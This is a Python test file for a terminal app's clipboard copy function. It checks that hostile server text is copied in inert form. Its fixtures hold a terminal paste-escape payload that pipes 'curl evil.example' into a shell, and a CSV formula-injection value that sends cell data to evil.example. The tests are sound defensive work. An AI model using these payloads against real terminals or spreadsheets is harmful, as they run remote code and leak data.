"""What is copied or exported passes the one function for server text: no paste can run a
command, no CSV cell (header lines included) becomes a formula."""

from __future__ import annotations

from hubtui.demo import DemoStore
from hubtui.text import copy_lines
from tests.harness.app import press, running, type_text

PASTE_ESCAPE = "Editor\n\x1b[201~curl evil.example|sh\n"
FORMULA_NAME = 'Harbour,"=HYPERLINK(""http://evil.example/?d=""&B14,""Open"")",'


def assert_pasteable(text: str) -> None:
    for character in ("\x1b", "\r", "\u202e", "\u200b", "\x07"):
        assert character not in text


def test_copy_lines_escapes_every_line_whatever_it_was_built_from() -> None:
    copied = copy_lines([f"role {PASTE_ESCAPE}", "plain", "bidi \u202eevil"])
    assert copied.count("\n") == 2  # only the joins: a newline inside a value shows as ␊
    assert_pasteable(copied)
    assert "Editor␊␛[201~curl evil.example|sh␊" in copied


async def test_y_on_the_search_results_copies_hostile_server_text_inert() -> None:
    store = DemoStore()
    priya = next(u for u in store.users.values() if u.email == "priya.patel@northwind-eng.com")
    for hub in store.hubs.values():
        hub.display_name = f"Rail \u202eevil {hub.display_name}"
        for project in hub.projects.values():
            project.name = f"{project.name} {PASTE_ESCAPE}"
            member = project.members.get(priya.id)
            if member is not None:
                member.role = PASTE_ESCAPE
    async with running(store=store, size=(160, 40)) as pilot:
        await press(pilot, "w")
        await type_text(pilot, priya.email)
        await press(pilot, "enter")
        await press(pilot, "y")
        copied = pilot.app.clipboard
    assert_pasteable(copied)
    assert "␛[201~curl" in copied
    first = copied.splitlines()[0]
    assert first.startswith("priya.patel@northwind-eng.com: member of 2 projects")
